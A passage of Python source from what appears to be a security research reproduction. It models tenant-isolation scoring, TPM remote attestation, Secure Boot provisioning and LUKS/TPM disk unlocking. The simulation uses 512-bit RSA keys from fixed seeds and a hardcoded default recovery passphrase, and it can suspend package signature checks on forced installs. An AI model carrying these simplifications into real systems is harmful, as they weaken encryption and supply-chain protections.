    "default_tenant_policy",
    "install_policy",
    "PeachAssessment",
    "TenancyConfig",
    "peach_score",
]

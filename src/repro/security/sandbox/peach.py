"""PEACH isolation modeling (part of M17).

The PEACH framework models tenant-isolation risk from interface
complexity and enforcement strength across five dimensions —
**P**rivilege hardening, **E**ncryption hardening, **A**uthentication
hardening, **C**onnectivity hardening, **H**ygiene — producing an
isolation-review outcome per tenancy design. GENIO uses it to compare its
*hard isolation* (dedicated VMs) and *soft isolation* (containers in
shared VMs) offerings.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Tuple


@dataclass
class TenancyConfig:
    """One tenancy design to be assessed."""

    name: str
    isolation_unit: str                 # "vm" | "container" | "namespace"
    # P — privilege hardening
    runs_privileged_workloads: bool = False
    seccomp_enforced: bool = True
    lsm_policies_enforced: bool = True
    capabilities_minimal: bool = True
    # E — encryption hardening
    data_at_rest_encrypted: bool = True
    per_tenant_keys: bool = True
    traffic_encrypted: bool = True
    # A — authentication hardening
    per_tenant_identities: bool = True
    mutual_tls_between_services: bool = False
    shared_secrets_across_tenants: bool = False
    # C — connectivity hardening
    network_default_deny: bool = False
    shared_flat_network: bool = True
    # H — hygiene
    images_scanned: bool = True
    runtime_monitoring: bool = True
    vulnerability_management: bool = True
    # interface complexity (PEACH's risk amplifier)
    shared_interface_complexity: str = "medium"   # low | medium | high


@dataclass
class PeachAssessment:
    """Scored outcome of one assessment."""

    config: str
    dimension_scores: Dict[str, float] = field(default_factory=dict)
    interface_risk: float = 0.0
    findings: List[str] = field(default_factory=list)

    @property
    def overall(self) -> float:
        """0..1 isolation score: mean dimension score damped by interface risk."""
        if not self.dimension_scores:
            return 0.0
        mean = sum(self.dimension_scores.values()) / len(self.dimension_scores)
        return round(mean * (1.0 - 0.3 * self.interface_risk), 4)

    @property
    def verdict(self) -> str:
        score = self.overall
        if score >= 0.8:
            return "adequate isolation"
        if score >= 0.6:
            return "isolation gaps: remediation advised"
        return "insufficient isolation for multi-tenancy"


_COMPLEXITY_RISK = {"low": 0.2, "medium": 0.5, "high": 1.0}
_UNIT_BASE = {"vm": 1.0, "container": 0.7, "namespace": 0.5}


def peach_score(config: TenancyConfig) -> PeachAssessment:
    """Assess one tenancy design across the five PEACH dimensions."""
    assessment = PeachAssessment(config=config.name)
    findings = assessment.findings

    # P — privilege hardening (weighted by the isolation unit's strength).
    p = _UNIT_BASE.get(config.isolation_unit, 0.5)
    if config.runs_privileged_workloads:
        p -= 0.5
        findings.append("privileged workloads inside the tenancy boundary")
    if not config.seccomp_enforced:
        p -= 0.15
        findings.append("no seccomp profile enforcement")
    if not config.lsm_policies_enforced:
        p -= 0.15
        findings.append("no LSM policy enforcement")
    if not config.capabilities_minimal:
        p -= 0.1
        findings.append("capability set not minimized")
    assessment.dimension_scores["privilege"] = max(0.0, min(1.0, p))

    # E — encryption hardening.
    e = 1.0
    if not config.data_at_rest_encrypted:
        e -= 0.4
        findings.append("tenant data at rest unencrypted")
    if not config.per_tenant_keys:
        e -= 0.3
        findings.append("tenants share encryption keys")
    if not config.traffic_encrypted:
        e -= 0.3
        findings.append("tenant traffic unencrypted")
    assessment.dimension_scores["encryption"] = max(0.0, e)

    # A — authentication hardening.
    a = 1.0
    if not config.per_tenant_identities:
        a -= 0.4
        findings.append("no per-tenant identities")
    if config.shared_secrets_across_tenants:
        a -= 0.4
        findings.append("secrets shared across tenants")
    if not config.mutual_tls_between_services:
        a -= 0.2
        findings.append("no mutual TLS between services")
    assessment.dimension_scores["authentication"] = max(0.0, a)

    # C — connectivity hardening.
    c = 1.0
    if config.shared_flat_network:
        c -= 0.4
        findings.append("tenants share a flat network")
    if not config.network_default_deny:
        c -= 0.3
        findings.append("no default-deny network policy")
    assessment.dimension_scores["connectivity"] = max(0.0, c)

    # H — hygiene.
    h = 1.0
    if not config.images_scanned:
        h -= 0.35
        findings.append("images not scanned before deployment")
    if not config.runtime_monitoring:
        h -= 0.35
        findings.append("no runtime monitoring")
    if not config.vulnerability_management:
        h -= 0.3
        findings.append("no vulnerability management process")
    assessment.dimension_scores["hygiene"] = max(0.0, h)

    assessment.interface_risk = _COMPLEXITY_RISK.get(
        config.shared_interface_complexity, 0.5)
    return assessment


def genio_hard_isolation() -> TenancyConfig:
    """GENIO's dedicated-VM tenancy offering."""
    return TenancyConfig(
        name="genio-hard-isolation", isolation_unit="vm",
        network_default_deny=True, shared_flat_network=False,
        mutual_tls_between_services=True,
        shared_interface_complexity="low")


def genio_soft_isolation(hardened: bool = True) -> TenancyConfig:
    """GENIO's containers-in-shared-VM tenancy offering."""
    return TenancyConfig(
        name=f"genio-soft-isolation[{'hardened' if hardened else 'stock'}]",
        isolation_unit="container",
        seccomp_enforced=hardened,
        lsm_policies_enforced=hardened,
        capabilities_minimal=hardened,
        network_default_deny=hardened,
        shared_flat_network=not hardened,
        images_scanned=hardened,
        runtime_monitoring=hardened,
        shared_interface_complexity="medium" if hardened else "high")

"""M5/M6/M7: code and data integrity (Section IV-C of the paper).

* :mod:`repro.security.integrity.secureboot` — provisioning Secure Boot
  (Shim/GRUB/kernel signing, key enrollment) and Measured Boot
  attestation against golden PCR values.
* :mod:`repro.security.integrity.securestorage` — LUKS provisioning with
  Clevis-style TPM binding, including the Lesson 3 availability gate.
* :mod:`repro.security.integrity.fim` — Tripwire-style file integrity
  monitoring with signed, encrypted baselines and mutable-path policy.
"""

from repro.security.integrity.secureboot import (
    AttestationResult, SecureBootProvisioner, attest,
)
from repro.security.integrity.securestorage import (
    StorageProvisioningResult, provision_secure_storage,
)
from repro.security.integrity.fim import FileIntegrityMonitor, FimFinding

__all__ = [
    "AttestationResult",
    "SecureBootProvisioner",
    "attest",
    "StorageProvisioningResult",
    "provision_secure_storage",
    "FileIntegrityMonitor",
    "FimFinding",
]

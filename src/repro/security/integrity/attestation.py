"""Remote attestation: signed TPM quotes verified by the cloud (extends M5).

Measured Boot records PCRs locally; for in-field OLT/ONU nodes the cloud
orchestrator must verify them *remotely*. A node's TPM holds an
attestation key (AIK) whose public half the operator registered at
enrollment; the node answers challenges with a quote — a signature over
(nonce || PCR digest). The verifier checks the signature (anti-spoof), the
nonce (anti-replay), and the PCR digest against the golden values
(integrity). Nodes failing attestation are quarantined from scheduling.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set, Tuple

from repro.common import crypto
from repro.osmodel.host import Host
from repro.security.integrity.secureboot import ATTESTED_PCRS, SecureBootProvisioner


@dataclass
class Quote:
    """One attestation response."""

    host: str
    nonce: bytes
    pcr_digest: bytes
    signature: bytes


@dataclass
class AttestationVerdict:
    """The verifier's decision on one quote."""

    host: str
    trusted: bool
    reason: str


class AttestationAgent:
    """Node-side: holds the AIK and produces quotes."""

    def __init__(self, host: Host, seed: Optional[int] = None) -> None:
        if host.tpm is None:
            raise ValueError(f"{host.hostname} has no TPM; cannot attest")
        self.host = host
        self._aik = crypto.RsaKeyPair.generate(bits=512, seed=seed)

    @property
    def aik_public(self) -> crypto.RsaPublicKey:
        return self._aik.public

    def quote(self, nonce: bytes,
              selection: Sequence[int] = ATTESTED_PCRS) -> Quote:
        digest = self.host.tpm.quote(selection)
        return Quote(host=self.host.hostname, nonce=nonce, pcr_digest=digest,
                     signature=self._aik.sign(nonce + digest))


class AttestationVerifier:
    """Cloud-side: challenges nodes and enforces quarantine."""

    def __init__(self, provisioner: SecureBootProvisioner) -> None:
        self.provisioner = provisioner
        self._registered_aiks: Dict[str, crypto.RsaPublicKey] = {}
        self._golden_digests: Dict[str, bytes] = {}
        self._used_nonces: Set[bytes] = set()
        self._nonce_counter = 0
        self.quarantined: Set[str] = set()
        self.verdicts: List[AttestationVerdict] = []

    def register(self, agent: AttestationAgent) -> None:
        """Enroll a node: record its AIK and golden PCR digest."""
        hostname = agent.host.hostname
        golden = self.provisioner.golden_pcrs.get(hostname)
        if golden is None:
            raise ValueError(f"no golden state recorded for {hostname}")
        material = b"".join(value for _, value in sorted(golden.items()))
        self._registered_aiks[hostname] = agent.aik_public
        self._golden_digests[hostname] = crypto.sha256(material)

    def challenge(self) -> bytes:
        """Fresh nonce for one attestation round."""
        self._nonce_counter += 1
        return crypto.sha256(b"attest-nonce" + self._nonce_counter.to_bytes(8, "big"))

    def verify(self, quote: Quote, expected_nonce: bytes) -> AttestationVerdict:
        """Verify one quote; quarantine the node on failure."""
        verdict = self._verify(quote, expected_nonce)
        self.verdicts.append(verdict)
        if verdict.trusted:
            self.quarantined.discard(quote.host)
        else:
            self.quarantined.add(quote.host)
        return verdict

    def _verify(self, quote: Quote, expected_nonce: bytes) -> AttestationVerdict:
        aik = self._registered_aiks.get(quote.host)
        if aik is None:
            return AttestationVerdict(quote.host, False, "unregistered node")
        if quote.nonce != expected_nonce:
            return AttestationVerdict(quote.host, False,
                                      "nonce mismatch (stale or forged quote)")
        if quote.nonce in self._used_nonces:
            return AttestationVerdict(quote.host, False,
                                      "nonce already consumed (replay)")
        if not aik.verify(quote.nonce + quote.pcr_digest, quote.signature):
            return AttestationVerdict(quote.host, False,
                                      "quote signature invalid")
        self._used_nonces.add(quote.nonce)
        if quote.pcr_digest != self._golden_digests.get(quote.host):
            return AttestationVerdict(
                quote.host, False,
                "PCR digest diverges from golden state (tampered boot)")
        return AttestationVerdict(quote.host, True, "platform state verified")

    def is_schedulable(self, hostname: str) -> bool:
        """Scheduling gate: quarantined nodes take no new workloads."""
        return hostname not in self.quarantined

"""Secure Boot + Measured Boot provisioning and attestation (M5).

Provisioning mirrors the paper's chain: Shim signed by a recognized CA,
operator (MOK) keys enrolled through Shim for GRUB and the
distribution-specific ONL kernel, and golden PCR values recorded so later
boots can be attested against the known-good state.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common import crypto
from repro.osmodel.boot import (
    BootStage, PCR_BOOTLOADER, PCR_FIRMWARE, PCR_KERNEL, sign_component,
)
from repro.osmodel.host import Host

ATTESTED_PCRS = (PCR_FIRMWARE, PCR_BOOTLOADER, PCR_KERNEL)


@dataclass
class AttestationResult:
    """Outcome of comparing a boot's PCRs to the golden values."""

    host: str
    trusted: bool
    mismatched_pcrs: List[int] = field(default_factory=list)
    detail: str = ""


class SecureBootProvisioner:
    """Provisions the M5 chain on hosts and attests their boots."""

    def __init__(self,
                 vendor_ca: Optional[crypto.RsaKeyPair] = None,
                 operator_mok: Optional[crypto.RsaKeyPair] = None) -> None:
        # "Microsoft"-style CA that signs Shim, and GENIO's own MOK.
        self.vendor_ca = vendor_ca or crypto.RsaKeyPair.generate(bits=512, seed=0x5B1)
        self.operator_mok = operator_mok or crypto.RsaKeyPair.generate(bits=512, seed=0x5B2)
        self.golden_pcrs: Dict[str, Dict[int, bytes]] = {}

    def provision(self, host: Host,
                  shim_image: bytes = b"shim-15.7",
                  grub_image: bytes = b"grub-2.06",
                  kernel_image: Optional[bytes] = None) -> None:
        """Install a fully signed chain and enable Secure Boot."""
        if kernel_image is None:
            kernel_image = f"vmlinuz-{host.kernel.version}".encode()
        rom = host.firmware
        rom.enroll_ca(self.vendor_ca.public)
        rom.enroll_mok(self.operator_mok.public)
        rom.secure_boot = True
        chain = host.boot_chain
        chain.install(sign_component(BootStage.SHIM, shim_image, self.vendor_ca))
        chain.install(sign_component(BootStage.GRUB, grub_image, self.operator_mok))
        chain.install(sign_component(BootStage.KERNEL, kernel_image,
                                     self.operator_mok))

    def record_golden_state(self, host: Host) -> Dict[int, bytes]:
        """Boot once and capture the known-good PCR values."""
        outcome = host.boot()
        if not outcome.booted:
            raise ValueError(
                f"cannot record golden state: boot failed ({outcome.failure})"
            )
        if host.tpm is None:
            raise ValueError(f"{host.hostname} has no TPM")
        golden = {index: host.tpm.read_pcr(index) for index in ATTESTED_PCRS}
        self.golden_pcrs[host.hostname] = golden
        return golden

    def sign_kernel_update(self, image: bytes):
        """Sign a new kernel so a legitimate update still boots (and
        deliberately changes the golden PCRs, requiring re-measurement)."""
        return sign_component(BootStage.KERNEL, image, self.operator_mok)

    def attest_host(self, host: Host) -> AttestationResult:
        """Compare the host's current PCRs to its recorded golden state."""
        golden = self.golden_pcrs.get(host.hostname)
        if golden is None:
            return AttestationResult(host=host.hostname, trusted=False,
                                     detail="no golden state recorded")
        return attest(host, golden)


def attest(host: Host, golden: Dict[int, bytes]) -> AttestationResult:
    """Pure attestation check against explicit golden PCR values."""
    if host.tpm is None:
        return AttestationResult(host=host.hostname, trusted=False,
                                 detail="host has no TPM")
    mismatched = [index for index, expected in sorted(golden.items())
                  if host.tpm.read_pcr(index) != expected]
    trusted = not mismatched
    detail = ("platform state matches golden measurements" if trusted
              else f"PCR mismatch at {mismatched}")
    return AttestationResult(host=host.hostname, trusted=trusted,
                             mismatched_pcrs=mismatched, detail=detail)

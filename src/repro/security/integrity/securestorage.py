"""Secure storage provisioning: LUKS + Clevis-style TPM binding (M6).

Encodes Lesson 3 directly: the Clevis/TPM auto-unlock stack needs
packages (``clevis``, ``tpm2-tools``) that the old ONL (Debian 10) base
does not carry. Provisioning therefore has three outcomes:

* **auto-unlock** — modern host (or forced install): volume bound to the
  TPM, unattended boot works;
* **manual passphrase** — legacy host without forced installs: encryption
  still deployed, but an operator must type the passphrase at boot
  (impractical for in-field OLT nodes, as the paper notes);
* **forced install** — packages forced onto the legacy base: auto-unlock
  works but a dependency-conflict risk is recorded.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence

from repro.common.errors import ConfigurationError
from repro.osmodel.boot import PCR_KERNEL
from repro.osmodel.host import Host
from repro.osmodel.packages import AptRepository, Package
from repro.osmodel.storage import LuksVolume

CLEVIS_STACK = ("tpm2-tools", "clevis")


@dataclass
class StorageProvisioningResult:
    """How secure storage ended up configured on one host."""

    host: str
    volume: str
    encrypted: bool
    tpm_bound: bool
    unlock_mode: str               # "auto" | "manual-passphrase"
    conflict_risk: bool = False
    notes: List[str] = field(default_factory=list)


def clevis_repository() -> AptRepository:
    """The backports repository carrying the Clevis TPM stack."""
    repo = AptRepository("clevis-backports")
    repo.publish(Package("tpm2-tools", "5.5", "TPM 2.0 utilities",
                         min_distro_release=11))
    repo.publish(Package("clevis", "19", "policy-based decryption",
                         depends=("tpm2-tools",), min_distro_release=11))
    return repo


def provision_secure_storage(
    host: Host,
    volume_name: str = "data",
    passphrase: str = "genio-recovery-passphrase",
    pcr_selection: Sequence[int] = (PCR_KERNEL,),
    force_install: bool = False,
    repo: Optional[AptRepository] = None,
) -> StorageProvisioningResult:
    """Deploy M6 on a host, honoring the Lesson 3 constraints."""
    volume = LuksVolume(volume_name, passphrase)
    host.add_volume(volume)
    result = StorageProvisioningResult(
        host=host.hostname, volume=volume_name,
        encrypted=True, tpm_bound=False, unlock_mode="manual-passphrase",
    )

    if host.tpm is None:
        result.notes.append("host has no TPM; PCR binding impossible")
        return result

    missing = [name for name in CLEVIS_STACK if name not in host.packages]
    if not missing:
        volume.bind_to_tpm(host.tpm, pcr_selection)
        result.tpm_bound = True
        result.unlock_mode = "auto"
        return result

    repo = repo or clevis_repository()
    signature_policy_suspended = False
    if host.apt_verify_signatures and not repo.signed:
        # Backports repos for the legacy base are often unsigned; the
        # operator must make an explicit trust decision.
        if not force_install:
            result.notes.append(
                "clevis backports repo unsigned and signature policy active")
            return result
        host.apt_verify_signatures = False
        signature_policy_suspended = True
        result.notes.append("signature policy temporarily suspended (forced)")

    try:
        for package_name in CLEVIS_STACK:
            if package_name not in host.packages:
                host.apt_install(repo, package_name, force=force_install)
    except ConfigurationError as exc:
        result.notes.append(
            f"Clevis stack unavailable on {host.distro.version}: {exc}")
        result.notes.append(
            "falling back to manual passphrase entry at boot (Lesson 3)")
        return result
    finally:
        if signature_policy_suspended:
            host.require_signed_apt()

    volume.bind_to_tpm(host.tpm, pcr_selection)
    result.tpm_bound = True
    result.unlock_mode = "auto"
    result.conflict_risk = any(r.conflict_risk for r in host.install_log
                               if r.package in CLEVIS_STACK)
    if result.conflict_risk:
        result.notes.append(
            "packages forced onto legacy base: dependency-conflict risk recorded")
    return result


def boot_and_unlock(host: Host, volume_name: str,
                    passphrase: Optional[str] = None) -> str:
    """Simulate the boot-time unlock path for a provisioned volume.

    Returns the unlock mode that actually succeeded ("auto" or
    "manual-passphrase").

    :raises repro.common.errors.AuthorizationError: TPM policy unsatisfied
        and no passphrase supplied.
    """
    volume = host.volumes[volume_name]
    if host.tpm is not None and any(s.slot_type == "tpm" for s in volume.slots):
        try:
            volume.unlock_with_tpm(host.tpm)
            return "auto"
        except Exception:
            if passphrase is None:
                raise
    if passphrase is None:
        raise ConfigurationError(
            f"volume {volume_name} requires a passphrase and none was supplied")
    volume.unlock_with_passphrase(passphrase)
    return "manual-passphrase"
